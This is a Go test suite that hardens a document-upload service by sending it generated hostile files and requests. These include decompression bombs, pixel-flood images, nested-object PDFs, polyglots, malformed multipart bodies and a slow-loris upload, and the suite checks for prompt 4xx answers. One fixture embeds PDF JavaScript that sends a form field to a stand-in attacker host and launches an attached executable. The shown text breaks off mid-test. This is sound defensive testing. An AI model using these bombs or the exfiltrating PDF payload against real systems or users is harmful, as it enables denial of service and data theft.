package server_test

// The hostile-input battery (issue 7, docs/hardening.md): files and
// requests built by the test, sent through the real service (server.New,
// intake + OCR subprocesses, PostgreSQL). Each must get its documented 4xx
// with a detail a person understands within its time bound — never a 500,
// a hang or a crash — while a benign client keeps getting 200s.

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"crypto/md5"
	"crypto/rc4"
	"encoding/binary"
	"fmt"
	"hash/adler32"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"io"
	"net/http"
	"os"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"papierkram/backend/intake"
	"papierkram/backend/internal/hostile"
	"papierkram/backend/server"
	"papierkram/backend/usage"
)

// batteryIntakeTimeout replaces production's intake deadline (processing
// timeout − 5 s = 115 s) so that the deflate bomb, which only the deadline
// stops, costs 8 s of test time instead of two minutes. The mechanism is
// the same; docs/hardening.md lists the production numbers.
const batteryIntakeTimeout = 8 * time.Second

// batteryReadTimeout replaces production's 2-minute whole-request read
// deadline (serve.go) for the stalled-upload case.
const batteryReadTimeout = 4 * time.Second

func TestHostileInputBattery(t *testing.T) {
	if testing.Short() {
		t.Skip("hostile-input battery: real pipeline, ~40 s")
	}
	scratch := t.TempDir()
	e, _ := newRealEnv(t, realOpts{
		intake:      intake.Config{Timeout: batteryIntakeTimeout, TempDir: scratch},
		pipelineTTL: batteryIntakeTimeout + 5*time.Second,
		readTimeout: batteryReadTimeout,
	})
	o, key := e.paidOrg(usage.Pro)
	benignOrg, benignKey := e.paidOrg(usage.Pro)

	good := statementPDF(t, "signed", 7, 12)

	type want struct {
		statuses []int  // allowed statuses
		detail   string // substring of the problem detail ("" = any)
	}
	bad := func(detail string) want { return want{[]int{400}, detail} }
	unrecognized := want{[]int{422}, ""}
	type hostile struct {
		name   string
		file   func(t *testing.T) []byte // uploaded as file (name, part type below)
		fname  string
		ptype  string
		send   func(t *testing.T) rawResult // or a hand-made request
		want   want
		within time.Duration
	}
	cases := []hostile{
		{name: "0-byte file", file: func(*testing.T) []byte { return []byte{} }, want: bad("empty"), within: 3 * time.Second},
		{name: "truncated PDF (first third)", file: func(*testing.T) []byte { return good[:len(good)/3] }, want: bad("damaged"), within: 10 * time.Second},
		{name: "broken xref (repairable)", file: func(*testing.T) []byte { return breakXref(good) }, want: want{[]int{200}, ""}, within: 15 * time.Second},
		{name: "encrypted (RC4), user password", file: func(*testing.T) []byte { return rc4PDF("geheim", "owner-geheim") }, want: bad("password"), within: 10 * time.Second},
		{name: "encrypted (RC4), owner password only", file: func(*testing.T) []byte { return rc4PDF("", "owner-geheim") }, want: unrecognized, within: 15 * time.Second},
		{name: "encrypted (AES-256, qpdf), user password", file: func(t *testing.T) []byte { return qpdfEncrypt(t, good, "geheim") }, want: bad("password"), within: 10 * time.Second},
		{name: "encrypted (AES-256, qpdf), owner password only", file: func(t *testing.T) []byte { return qpdfEncrypt(t, good, "") }, want: want{[]int{200}, ""}, within: 15 * time.Second},
		{name: "PDF with 2,000 pages", file: func(*testing.T) []byte { return manyPagesPDF(2000) }, want: bad("2000 pages"), within: 10 * time.Second},
		{name: "deflate bomb (4 MB → 4 GiB)", file: func(*testing.T) []byte { return deflateBombPDF(4 << 30) }, want: bad(""), within: batteryIntakeTimeout + 8*time.Second},
		{name: "deeply nested objects (200,000 arrays, 50,000 dicts)", file: func(*testing.T) []byte { return nestedPDF(200_000, 50_000) }, want: want{[]int{400, 422}, ""}, within: 15 * time.Second},
		{name: "nested arrays in a compressed content stream (20,000,000 deep, 45 kB)", file: func(*testing.T) []byte { return nestedContentPDF(20_000_000) }, want: want{[]int{400, 422}, ""}, within: batteryIntakeTimeout + 8*time.Second},
		{name: "JavaScript and attachment", file: func(*testing.T) []byte { return javascriptPDF() }, want: unrecognized, within: 10 * time.Second},
		{name: "JPEG declaring 60,000 × 60,000", file: func(t *testing.T) []byte { return bigJPEG(t, 60000, 60000) }, ptype: "image/jpeg", fname: "foto.jpg", want: bad("too large"), within: 3 * time.Second},
		{name: "JPEG with hostile EXIF (IFD out of range, 65,535 entries)", file: func(t *testing.T) []byte { return hostileEXIF(t) }, ptype: "image/jpeg", fname: "foto.jpg", want: unrecognized, within: 15 * time.Second},
		{name: "PNG declaring 60,000 × 60,000", file: func(*testing.T) []byte { return pngBomb(60000, 60000, 8, 0) }, ptype: "image/png", fname: "scan.png", want: bad("too large"), within: 3 * time.Second},
		{name: "PNG bomb 20,000 × 20,000 grey (400 MB inflated)", file: func(*testing.T) []byte { return pngBomb(20000, 20000, 8, 0) }, ptype: "image/png", fname: "scan.png", want: bad("too large"), within: 3 * time.Second},
		{name: "PNG bomb inside the pixel limit (6,300² RGBA16, 318 MB inflated)", file: func(*testing.T) []byte { return pngBomb(6300, 6300, 16, 6) }, ptype: "image/png", fname: "scan.png", want: bad("too large"), within: 3 * time.Second},
		{name: "PNG inside both limits (4,400² RGBA16, 155 MB inflated)", file: func(*testing.T) []byte { return pngBomb(4400, 4400, 16, 6) }, ptype: "image/png", fname: "scan.png", want: unrecognized, within: 30 * time.Second},
		{name: "polyglot: PDF inside a PNG chunk", file: func(t *testing.T) []byte { return pdfInPNG(t, good) }, ptype: "image/png", fname: "bild.png", want: want{[]int{200, 400, 422}, ""}, within: 15 * time.Second},
		// The PDF header lies within the first kilobyte, where PDF readers look
		// for it: intake reads it as the PDF (see docs/hardening.md).
		{name: "polyglot: PNG with a PDF appended", file: func(t *testing.T) []byte { return append(whitePNG(t, 64, 64), good...) }, ptype: "image/png", fname: "bild.png", want: want{[]int{200, 422}, ""}, within: 15 * time.Second},
		{name: "polyglot: ZIP + PDF (PDF then archive)", file: func(t *testing.T) []byte { return append(append([]byte{}, good...), zipArchive(t)...) }, want: want{[]int{200}, ""}, within: 15 * time.Second},
		{name: "polyglot: ZIP header first, PDF inside", file: func(t *testing.T) []byte { return append(zipLocalHeader(), good...) }, want: want{[]int{200, 400, 422}, ""}, within: 15 * time.Second},
		{name: "wrong magic: GIF named .pdf", file: func(*testing.T) []byte {
			return []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
		}, fname: "auszug.pdf", ptype: "application/pdf", want: bad("not a PDF"), within: 3 * time.Second},
		{name: "wrong magic: ELF named .png", file: func(*testing.T) []byte { return append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 400)...) }, fname: "scan.png", ptype: "image/png", want: bad("not a PDF"), within: 3 * time.Second},
		{name: "wrong magic: ZIP named .pdf", file: func(t *testing.T) []byte { return zipArchive(t) }, fname: "auszug.pdf", ptype: "application/pdf", want: bad("not a PDF"), within: 3 * time.Second},
		{name: "multipart: two files", send: func(t *testing.T) rawResult {
			var body bytes.Buffer
			body.WriteString("--b\r\nContent-Disposition: form-data; name=\"document_type\"\r\n\r\nkontoauszug\r\n")
			for range 2 {
				body.WriteString("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n")
				body.Write(good)
				body.WriteString("\r\n")
			}
			body.WriteString("--b--\r\n")
			return e.raw(t, rawHead(key, "multipart/form-data; boundary=b", int64(body.Len())), writeAll(body.Bytes()), 10*time.Second)
		}, want: bad("exactly one file"), within: 5 * time.Second},
		{name: "multipart: no boundary", send: func(t *testing.T) rawResult {
			body, _ := form("kontoauszug", "a.pdf", "application/pdf", good)
			return e.raw(t, rawHead(key, "multipart/form-data", int64(len(body))), writeAll(body), 10*time.Second)
		}, want: bad("boundary"), within: 3 * time.Second},
		{name: "multipart: truncated body (no closing boundary)", send: func(t *testing.T) rawResult {
			body, ct := form("kontoauszug", "a.pdf", "application/pdf", good)
			body = body[:len(body)-200]
			return e.raw(t, rawHead(key, ct, int64(len(body))), writeAll(body), 10*time.Second)
		}, want: bad("malformed or interrupted"), within: 5 * time.Second},
		{name: "multipart: 50 MB text field, Content-Length declared", send: func(t *testing.T) rawResult {
			head, body := bigFieldForm(50 << 20)
			return e.raw(t, rawHead(key, "multipart/form-data; boundary=b", int64(len(head)+len(body))), writeAll(append([]byte(head), body...)), 20*time.Second)
		}, want: bad("larger than 10 MB"), within: 3 * time.Second},
		{name: "multipart: 50 MB text field, chunked (no length)", send: func(t *testing.T) rawResult {
			head, body := bigFieldForm(50 << 20)
			return e.raw(t, rawHead(key, "multipart/form-data; boundary=b", -1), writeChunked(append([]byte(head), body...)), 30*time.Second)
		}, want: bad("larger than 10 MB"), within: 15 * time.Second},
		{name: "multipart: 200,000 empty parts, no file", send: func(t *testing.T) rawResult {
			body := bytes.Repeat([]byte("--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n\r\n"), 200_000)
			body = append(body, "--b\r\nContent-Disposition: form-data; name=\"document_type\"\r\n\r\nkontoauszug\r\n--b--\r\n"...)
			return e.raw(t, rawHead(key, "multipart/form-data; boundary=b", int64(len(body))), writeAll(body), 20*time.Second)
		}, want: bad("file is missing"), within: 10 * time.Second},
		{name: "multipart: 8 MB part header line", send: func(t *testing.T) rawResult {
			body := []byte("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + strings.Repeat("a", 8<<20) + "\"\r\n\r\n%PDF-1.7\r\n--b--\r\n")
			return e.raw(t, rawHead(key, "multipart/form-data; boundary=b", int64(len(body))), writeAll(body), 20*time.Second)
		}, want: bad(""), within: 10 * time.Second},
		{name: "multipart: slow upload (1 byte / 200 ms, stalls)", send: func(t *testing.T) rawResult {
			body, ct := form("kontoauszug", "a.pdf", "application/pdf", good)
			return e.raw(t, rawHead(key, ct, int64(len(body))), func(w io.Writer) error {
				for _, c := range body {
					if _, err := w.Write([]byte{c}); err != nil {
						return err
					}
					time.Sleep(200 * time.Millisecond)
				}
				return nil
			}, batteryReadTimeout+10*time.Second)
		}, want: bad("malformed or interrupted"), within: batteryReadTimeout + 3*time.Second},
	}

	// A benign client keeps analysing a text-layer statement meanwhile.
	var (
		benignOK, benignBad atomic.Int64
		benignMax           atomic.Int64
		benignErrs          sync.Map
		stop                = make(chan struct{})
		done                = make(chan struct{})
	)
	benign := statementPDF(t, "sollhaben", 11, 20)
	go func() {
		defer close(done)
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			body, ct := form("kontoauszug", "auszug.pdf", "application/pdf", benign)
			start := time.Now()
			res, m := e.post(benignKey, body, ct)
			d := time.Since(start)
			if int64(d) > benignMax.Load() {
				benignMax.Store(int64(d))
			}
			if res.StatusCode == 200 {
				benignOK.Add(1)
			} else {
				benignBad.Add(1)
				benignErrs.Store(i, fmt.Sprintf("%d %v", res.StatusCode, m["code"]))
			}
			time.Sleep(100 * time.Millisecond)
		}
	}()

	peakReset := resetPeakRSS()
	batteryStart := time.Now()
	var table strings.Builder
	table.WriteString("\n| input | status | code | time | bound |\n|---|---|---|---|---|\n")
	expect200 := 0
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var r rawResult
			if c.send != nil {
				r = c.send(t)
			} else {
				data := c.file(t)
				name, ptype := c.fname, c.ptype
				if name == "" {
					name, ptype = "auszug.pdf", "application/pdf"
				}
				body, ct := form("kontoauszug", name, ptype, data)
				start := time.Now()
				res, m := e.post(key, body, ct)
				r = rawResult{res: res, body: m, took: time.Since(start)}
			}
			if r.err != nil {
				fmt.Fprintf(&table, "| %s | no response (%v) | | %v | %v |\n", c.name, r.err, r.took.Round(time.Millisecond), c.within)
				t.Fatalf("no response after %v: %v", r.took, r.err)
			}
			code, _ := r.body["code"].(string)
			fmt.Fprintf(&table, "| %s | %d | %s | %v | %v |\n", c.name, r.res.StatusCode, code, r.took.Round(time.Millisecond), c.within)
			if r.took > c.within {
				t.Errorf("answered after %v, bound %v", r.took, c.within)
			}
			if !slices.Contains(c.want.statuses, r.res.StatusCode) {
				t.Fatalf("status %d %v, want one of %v", r.res.StatusCode, r.body, c.want.statuses)
			}
			if r.res.StatusCode == 200 {
				expect200++
				return
			}
			wantCode := map[int]string{400: "invalid_request", 422: "document_not_recognized"}[r.res.StatusCode]
			if code != wantCode {
				t.Errorf("code %q, want %q", code, wantCode)
			}
			detail, _ := r.body["detail"].(string)
			if !humanDetail(detail) {
				t.Errorf("detail %q is not a sentence a person understands", detail)
			}
			if c.want.detail != "" && !strings.Contains(detail, c.want.detail) {
				t.Errorf("detail %q lacks %q", detail, c.want.detail)
			}
			if r.res.Header.Get("Request-Id") == "" || r.body["request_id"] != r.res.Header.Get("Request-Id") {
				t.Errorf("request id: header %q body %v", r.res.Header.Get("Request-Id"), r.body["request_id"])
			}
		})
	}
	batteryTook := time.Since(batteryStart)
	close(stop)
	<-done
	hwm, rss := procStatus("self", "VmHWM"), procStatus("self", "VmRSS")
	t.Logf("battery: %v; peak RSS of the test process (VmHWM, reset at start: %v) %d MiB, RSS now %d MiB%s",
		batteryTook.Round(time.Millisecond), peakReset, hwm/1024, rss/1024, table.String())
	t.Logf("benign client meanwhile: %d × 200, %d other, slowest %v", benignOK.Load(), benignBad.Load(), time.Duration(benignMax.Load()).Round(time.Millisecond))

	benignErrs.Range(func(k, v any) bool { t.Errorf("benign request %v: %v", k, v); return true })
	if benignOK.Load() < 3 {
		t.Errorf("benign client got only %d answers during the battery", benignOK.Load())
	}
	if hwm > 1536*1024 {
		t.Errorf("peak RSS %d MiB exceeds the 1.5 GiB budget", hwm/1024)
	}
	// Every subprocess was reaped, every scratch file removed, every lease settled.
	waitFor(t, 5*time.Second, "no tool subprocess left", func() bool { return len(childProcesses()) == 0 })
	if left, _ := os.ReadDir(scratch); len(left) != 0 {
		t.Errorf("scratch files left: %v", left)
	}
	var leases int
	e.db.QueryRow(context.Background(), "SELECT count(*) FROM usage_leases").Scan(&leases)
	if leases != 0 {
		t.Errorf("%d quota leases left", leases)
	}
	for id, want := range map[string]int{o.ID: expect200, benignOrg.ID: int(benignOK.Load())} {
		rep, err := usage.NewMeter(e.db).Get(context.Background(), id)
		if err != nil || rep.BillableCalls != want {
			t.Errorf("org %s billable = %d (%v), want %d (only 200s count)", id, rep.BillableCalls, err, want)
		}
	}
	e.logMu.Lock()
	logs := e.logs.String()
	e.logMu.Unlock()
	if strings.Contains(logs, `"panic"`) {
		t.Error("a handler panicked during the battery (see logs)")
	}
}

// humanDetail: a sentence, not a Go error or a stack trace.
func humanDetail(d string) bool {
	if len(d) < 12 || !strings.ContainsAny(d[len(d)-1:], ".!?)") {
		return false
	}
	for _, bad := range []string{"panic", "goroutine", "runtime error", "%!", "0x", "pdftotext", "exit status", "errno", "nil pointer", "<nil>"} {
		if strings.Contains(d, bad) {
			return false
		}
	}
	return true
}

func waitFor(t *testing.T, d time.Duration, what string, ok func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !ok() {
		if time.Now().After(deadline) {
			t.Errorf("after %v: not true: %s (children: %v)", d, what, childProcesses())
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func writeAll(b []byte) func(io.Writer) error {
	return func(w io.Writer) error { _, err := w.Write(b); return err }
}

func writeChunked(b []byte) func(io.Writer) error {
	return func(w io.Writer) error {
		for len(b) > 0 {
			n := min(len(b), 64<<10)
			if _, err := fmt.Fprintf(w, "%x\r\n%s\r\n", n, b[:n]); err != nil {
				return err
			}
			b = b[n:]
		}
		_, err := io.WriteString(w, "0\r\n\r\n")
		return err
	}
}

// bigFieldForm is a form whose first part is an n-byte text field.
func bigFieldForm(n int) (string, []byte) {
	head := "--b\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n"
	body := bytes.Repeat([]byte("A"), n)
	body = append(body, "\r\n--b\r\nContent-Disposition: form-data; name=\"document_type\"\r\n\r\nkontoauszug\r\n--b--\r\n"...)
	return head, body
}

// ---- hostile file generators ----

// Shared constructions (backend/internal/hostile).
var (
	rawPDF      = hostile.RawPDF
	pdfStream   = hostile.Stream
	pngChunk    = hostile.PNGChunk
	qpdfEncrypt = hostile.QPDFEncrypt
)

// breakXref garbles the xref keyword and the startxref offset: readers
// must rebuild the table by scanning (poppler does).
func breakXref(pdf []byte) []byte {
	out := bytes.Replace(pdf, []byte("\nxref\n"), []byte("\nxfer\n"), 1)
	if i := bytes.LastIndex(out, []byte("startxref\n")); i >= 0 {
		out = append(out[:i:i], []byte("startxref\n999999999\n%%EOF\n")...)
	}
	return out
}

// pdfPadding is the password padding of the PDF standard security handler.
var pdfPadding = []byte{0x28, 0xBF, 0x4E, 0x5E, 0x4E, 0x75, 0x8A, 0x41, 0x64, 0x00, 0x4E, 0x56, 0xFF, 0xFA, 0x01, 0x08,
	0x2E, 0x2E, 0x00, 0xB6, 0xD0, 0x68, 0x3E, 0x80, 0x2F, 0x0C, 0xA9, 0xFE, 0x64, 0x53, 0x69, 0x7A}

func padPassword(pw string) []byte { return append([]byte(pw), pdfPadding...)[:32] }

func rc4Crypt(key, data []byte) []byte {
	c, _ := rc4.NewCipher(key)
	out := make([]byte, len(data))
	c.XORKeyStream(out, data)
	return out
}

// rc4PDF is a one-page letter encrypted with the standard security handler
// (revision 2, 40-bit RC4), built without external tools. With an empty
// user password any reader opens it (owner restrictions only).
func rc4PDF(user, owner string) []byte {
	ownerKey := md5.Sum(padPassword(owner))
	o := rc4Crypt(ownerKey[:5], padPassword(user))
	const perms = int32(-44)
	id := []byte("papierkram-test!")
	h := md5.New()
	h.Write(padPassword(user))
	h.Write(o)
	binary.Write(h, binary.LittleEndian, perms)
	h.Write(id)
	fileKey := h.Sum(nil)[:5]
	u := rc4Crypt(fileKey, pdfPadding)
	objKey := func(n int) []byte {
		k := md5.Sum(append(append([]byte{}, fileKey...), byte(n), byte(n>>8), byte(n>>16), 0, 0))
		return k[:10]
	}
	content := rc4Crypt(objKey(4), []byte("BT /F1 11 Tf 60 780 Td (Sehr geehrte Damen und Herren, anbei die Unterlagen zu Ihrer Anfrage vom Montag.) Tj ET"))
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		pdfStream("", content),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		fmt.Sprintf("<< /Filter /Standard /V 1 /R 2 /O <%x> /U <%x> /P %d >>", o, u, perms),
	}
	pdf := rawPDF(objs...)
	return bytes.Replace(pdf, []byte("/Root 1 0 R >>"), []byte(fmt.Sprintf("/Root 1 0 R /Encrypt 6 0 R /ID [<%x> <%x>] >>", id, id)), 1)
}

// manyPagesPDF has n empty pages sharing one content stream.
func manyPagesPDF(n int) []byte {
	kids := make([]string, n)
	objs := []string{"<< /Type /Catalog /Pages 2 0 R >>", "", pdfStream("", []byte("BT ET"))}
	for i := range n {
		kids[i] = fmt.Sprintf("%d 0 R", 4+i)
		objs = append(objs, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>")
	}
	objs[1] = fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), n)
	return rawPDF(objs...)
}

// zlibZeros returns a zlib stream that inflates to exactly n zero bytes
// in about n/1000 bytes, built without compressing n bytes: after the
// first MiB every further MiB is the same byte-aligned block of
// back-references (the window holds zeros either way), then the remainder.
func zlibZeros(n int64) []byte { return zlibWrap(deflateZeros(n), n) }

// deflateZeros is the raw DEFLATE stream of n zero bytes (see zlibZeros).
func deflateZeros(n int64) []byte {
	const chunk = 1 << 20
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	if n < 2*chunk {
		w.Write(make([]byte, n))
		w.Close()
		return b.Bytes()
	}
	zero := make([]byte, chunk)
	w.Write(zero)
	w.Flush()
	first := b.Len()
	w.Write(zero)
	w.Flush()
	second := b.Len()
	w.Write(zero[:n%chunk])
	w.Close()
	all := b.Bytes()
	var out bytes.Buffer
	out.Write(all[:first])
	for i := int64(1); i < n/chunk; i++ {
		out.Write(all[first:second])
	}
	out.Write(all[second:])
	return out.Bytes()
}

// gzipZeros is a gzip member of n zero bytes (Content-Encoding: gzip bomb).
func gzipZeros(n int64) []byte {
	out := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 0xff}
	out = append(out, deflateZeros(n)...)
	crc := uint32(0)
	zero := make([]byte, 1<<20)
	for left := n; left > 0; left -= int64(len(zero)) {
		crc = crc32.Update(crc, crc32.IEEETable, zero[:min(left, int64(len(zero)))])
	}
	out = binary.LittleEndian.AppendUint32(out, crc)
	return binary.LittleEndian.AppendUint32(out, uint32(n))
}

// zlibWrap adds the zlib header and the Adler-32 of n zero bytes.
func zlibWrap(deflated []byte, n int64) []byte {
	out := append([]byte{0x78, 0xda}, deflated...)
	return binary.BigEndian.AppendUint32(out, uint32(1|(n%65521)<<16))
}

// deflateBombPDF: one page whose content stream inflates to n zero bytes
// (whitespace to a PDF lexer: a valid, endless, empty page).
func deflateBombPDF(n int64) []byte {
	return rawPDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
		pdfStream("/Filter /FlateDecode", zlibZeros(n)),
	)
}

func nestedPDF(arrays, dicts int) []byte {
	nest := strings.Repeat("[", arrays) + strings.Repeat("]", arrays)
	dict := strings.Repeat("<< /A ", dicts) + "0" + strings.Repeat(" >>", dicts)
	return rawPDF(
		"<< /Type /Catalog /Pages 2 0 R /X "+nest+" /Y "+dict+" >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources "+dict+" >>",
	)
}

// nestedContentPDF hides n nested arrays in a Flate-compressed content
// stream, where a scan of the raw file for brackets cannot see them.
func nestedContentPDF(n int) []byte {
	content := "BT /F1 10 Tf 50 700 Td " + strings.Repeat("[", n) + strings.Repeat("]", n) + " TJ ET"
	var z bytes.Buffer
	w, _ := flate.NewWriter(&z, flate.BestCompression)
	w.Write([]byte(content))
	w.Close()
	return rawPDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		pdfStream("/Filter /FlateDecode", zlibWrapAny(z.Bytes(), []byte(content))),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	)
}

// zlibWrapAny adds the zlib header and the Adler-32 of plain.
func zlibWrapAny(deflated, plain []byte) []byte {
	out := append([]byte{0x78, 0xda}, deflated...)
	return binary.BigEndian.AppendUint32(out, adler32.Checksum(plain))
}

// javascriptPDF opens with JavaScript and carries an executable attachment.
func javascriptPDF() []byte {
	content := []byte("BT /F1 11 Tf 60 780 Td (Sehr geehrte Damen und Herren, anbei die Unterlagen zu Ihrer Anfrage vom Montag.) Tj ET")
	return rawPDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /EmbeddedFiles << /Names [(rechnung.exe) 7 0 R] >> /JavaScript << /Names [(init) 6 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>] >>",
		pdfStream("", content),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /S /JavaScript /JS (app.launchURL('http://attacker.invalid/'+this.getField('x'), true); this.exportDataObject({cName: 'rechnung.exe', nLaunch: 2});) >>",
		"<< /Type /Filespec /F (rechnung.exe) /UF (rechnung.exe) /EF << /F 8 0 R >> >>",
		pdfStream("/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", []byte("MZ\x90\x00 this program cannot be run in DOS mode")),
	)
}

var pngSig = hostile.PNGSignature

// pngBomb declares w×h pixels (bit depth, colour type) whose IDAT is a
// zlib stream of zeros for every row: tiny on disk, w×h×bytes-per-pixel
// decoded.
func pngBomb(w, h int, depth, colour byte) []byte {
	channels := map[byte]int{0: 1, 2: 3, 4: 2, 6: 4}[colour]
	raw := int64(h) * (1 + int64(w)*int64(channels)*int64(depth)/8)
	if raw > 512<<20 {
		raw = 1 << 20 // header-only bombs: the decoder must refuse before inflating
	}
	return hostile.PNG(w, h, depth, colour, zlibZeros(raw))
}

func whitePNG(t *testing.T, w, h int) []byte {
	g := image.NewGray(image.Rect(0, 0, w, h))
	for i := range g.Pix {
		g.Pix[i] = 255
	}
	var b bytes.Buffer
	if err := png.Encode(&b, g); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// pdfInPNG hides a whole PDF in a private ancillary chunk right after
// IHDR: a valid PNG whose first kilobyte contains "%PDF-".
func pdfInPNG(t *testing.T, pdf []byte) []byte {
	p := whitePNG(t, 64, 64)
	ihdrEnd := len(pngSig) + 8 + 13 + 4
	var b bytes.Buffer
	b.Write(p[:ihdrEnd])
	b.Write(pngChunk("pdFx", pdf))
	b.Write(p[ihdrEnd:])
	return b.Bytes()
}

// bigJPEG is a valid 16×16 JPEG whose SOF header claims w×h.
func bigJPEG(t *testing.T, w, h int) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 16, 16)), nil); err != nil {
		t.Fatal(err)
	}
	data := b.Bytes()
	i := bytes.Index(data, []byte{0xFF, 0xC0})
	if i < 0 {
		t.Fatal("no SOF0 marker")
	}
	binary.BigEndian.PutUint16(data[i+5:], uint16(h))
	binary.BigEndian.PutUint16(data[i+7:], uint16(w))
	return data
}

// hostileEXIF is a white 300×300 JPEG carrying two EXIF segments: one
// whose IFD claims 65,535 entries but ends after one (orientation 6), one
// whose IFD offset points far outside the segment.
func hostileEXIF(t *testing.T) []byte {
	g := image.NewGray(image.Rect(0, 0, 300, 300))
	for i := range g.Pix {
		g.Pix[i] = 255
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, g, nil); err != nil {
		t.Fatal(err)
	}
	app1 := func(tiff []byte) []byte {
		seg := append([]byte("Exif\x00\x00"), tiff...)
		out := []byte{0xFF, 0xE1}
		out = binary.BigEndian.AppendUint16(out, uint16(len(seg)+2))
		return append(out, seg...)
	}
	many := []byte("II*\x00\x08\x00\x00\x00")
	many = binary.LittleEndian.AppendUint16(many, 0xFFFF)
	many = append(many, 0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0)
	far := []byte("MM\x00*\xFF\xFF\xFF\xF0\x00\x01")
	jpg := b.Bytes()
	out := append([]byte{}, jpg[:2]...)
	out = append(out, app1(many)...)
	out = append(out, app1(far)...)
	return append(out, jpg[2:]...)
}

// zipArchive is a real ZIP with one entry.
func zipArchive(t *testing.T) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	f, err := zw.Create("kontoauszug.pdf")
	if err != nil {
		t.Fatal(err)
	}
	f.Write([]byte("not really a statement"))
	zw.Close()
	return b.Bytes()
}

// zipLocalHeader is the start of a stored ZIP entry named a.pdf, so that
// the upload begins with "PK\x03\x04" and the PDF follows as its data.
func zipLocalHeader() []byte {
	var b bytes.Buffer
	b.WriteString("PK\x03\x04")
	binary.Write(&b, binary.LittleEndian, []uint16{20, 0, 0, 0, 0})
	binary.Write(&b, binary.LittleEndian, []uint32{0, 0, 0})
	binary.Write(&b, binary.LittleEndian, []uint16{5, 0})
	b.WriteString("a.pdf")
	return b.Bytes()
}

// TestHostileConnectBodies: the Connect door of Analyze reads protobuf and
// JSON bodies, optionally gzip-compressed. Oversized and bomb bodies must be
// refused with a 4xx quickly and without buffering what they inflate to.
func TestHostileConnectBodies(t *testing.T) {
	e := newEnv(t, server.Deps{Pipeline: &okPipeline{}})
	_, key := e.paidOrg(usage.Pro)
	bomb := gzipZeros(1 << 30)
	cases := []struct {
		name, ctype, enc string
		body             []byte
		within           time.Duration
	}{
		{"gzip bomb 1 MB → 1 GiB, protobuf", "application/proto", "gzip", bomb, 30 * time.Second},
		{"gzip bomb 1 MB → 1 GiB, JSON", "application/json", "gzip", bomb, 30 * time.Second},
		{"11 MB protobuf message", "application/proto", "", append([]byte{0x12, 0x80, 0x80, 0xc0, 0x05}, make([]byte, 11<<20)...), 5 * time.Second},
		{"malformed protobuf", "application/proto", "", []byte{0x12, 0xff, 0xff, 0xff, 0xff, 0x0f, 1, 2}, 5 * time.Second},
		{"deeply nested JSON", "application/json", "", []byte(strings.Repeat(`{"a":`, 100000) + "1" + strings.Repeat("}", 100000)), 5 * time.Second},
		// The Connect protocol answers an unsupported Content-Encoding with
		// code unimplemented (HTTP 501): protocol-defined, not a fault.
		{"unknown encoding", "application/json", "br", []byte("{}"), 5 * time.Second},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			runtime.GC()
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			req, _ := http.NewRequest("POST", e.srv.URL+"/papierkram.v1.AnalysisService/Analyze", bytes.NewReader(c.body))
			req.Header.Set("Content-Type", c.ctype)
			if c.enc != "" {
				req.Header.Set("Content-Encoding", c.enc)
			}
			req.Header.Set("Authorization", "Bearer "+key)
			start := time.Now()
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(io.LimitReader(res.Body, 4096))
			res.Body.Close()
			took := time.Since(start)
			runtime.ReadMemStats(&after)
